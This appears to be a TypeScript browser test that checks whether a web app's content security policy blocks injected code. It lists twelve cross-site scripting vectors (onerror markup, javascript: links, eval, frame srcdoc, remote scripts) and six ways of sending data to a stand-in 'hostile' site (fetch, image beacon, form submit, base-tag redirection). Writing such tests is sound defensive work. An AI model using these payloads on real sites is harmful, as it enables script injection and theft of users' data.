import { pageLoaded } from '@cardea/twin-browser';
import type { Trial } from '../attack.ts';
import { tryInPage } from './in-page.ts';
import type { Scene } from './scene.ts';

/** What somebody does who has found a way to put something into one of our pages, by what it is. */
const RUNS: Readonly<Record<string, string>> = {
  'a script in the page': `const one = document.createElement('script'); one.append('canary("inline")'); document.body.append(one);`,
  'markup as the content of an element': `const one = document.createElement('div'); document.body.append(one); one.innerHTML = '<img src=x onerror=canary("markup")>';`,
  'markup beside an element': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=canary("beside")>');`,
  'a document in a frame': `const one = document.createElement('iframe'); one.srcdoc = '<script>parent.canary("frame")</' + 'script>'; document.body.append(one);`,
  'an address that is a script': `const one = document.createElement('a'); one.href = 'javascript:canary("address")'; document.body.append(one); one.click();`,
  'text as a program': `eval('canary("eval")');`,
  'text as a function': `new Function('canary("function")')();`,
  'text for a timer': `setTimeout('canary("timer")', 0);`,
  'a script of another site': `const one = document.createElement('script'); one.src = site + '/hostile.js'; document.body.append(one);`,
  'a module of another site': `await import(site + '/hostile.js');`,
  'a worker of text': `const one = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); one.onmessage = () => canary('worker');`,
  'a handler in an attribute': `document.body.setAttribute('onclick', 'canary("handler")'); document.body.click();`,
};

/** How it would send what it has read to its own site. */
const SENDS: Readonly<Record<string, string>> = {
  'a request': `await fetch(site + '/taken'); sent();`,
  'a picture': `const one = new Image(); one.onload = one.onerror = sent; one.src = site + '/taken';`,
  'a style': `const one = document.createElement('link'); one.rel = 'stylesheet'; one.onload = sent; one.href = site + '/hostile.css'; document.head.append(one);`,
  'a frame': `const one = document.createElement('iframe'); one.onload = sent; one.src = site + '/framed'; document.body.append(one);`,
  'a form': `const one = document.createElement('form'); one.action = site + '/taken'; one.target = 'aside'; const aside = document.createElement('iframe'); aside.name = 'aside'; document.body.append(aside, one); aside.onload = sent; one.submit();`,
  'another beginning of its addresses': `const one = document.createElement('base'); one.href = site; document.head.append(one); await fetch('taken'); if (document.baseURI.startsWith(site)) sent(); throw new Error();`,
};

/** Tries each in a page of both apps, one after the other. */
export async function injection(scene: Scene): Promise<readonly Trial[]> {
  return [...(await intoApp(scene, 'console')), ...(await intoApp(scene, 'phone'))];
}

async function intoApp({ weak, aside: page, origin, sites, ran }: Scene, app: string): Promise<readonly Trial[]> {
  const site = sites[1];
  if (site === undefined) throw new Error('there is no other site');
  // What the policy stops without a word is given up soon; what gets through does so at its own pace.
  const patienceMs = weak ? 60_000 : 2_000;
  const trials: Trial[] = [];
  await page.goto(`${origin}/${app}/`);
  await pageLoaded(page);
  ran();
  site.hits();
  for (const [what, body] of Object.entries(RUNS)) {
    const outcome = await page.evaluate(tryInPage(body, site.origin, patienceMs));
    trials.push({ name: `injected into the ${app}: ${what} runs`, through: outcome === 'ran' });
  }
  const calls = ran().length;
  site.hits();
  for (const [what, body] of Object.entries(SENDS)) {
    await page.evaluate(tryInPage(body, site.origin, patienceMs));
    trials.push({ name: `injected into the ${app}: data leave by ${what}`, through: site.hits().length > 0 });
  }
  // What began its way and came to its end later, or by another way than the one that was watched.
  trials.push({ name: `injected into the ${app}: any of it runs in the end`, through: calls + ran().length > 0 });
  return trials;
}
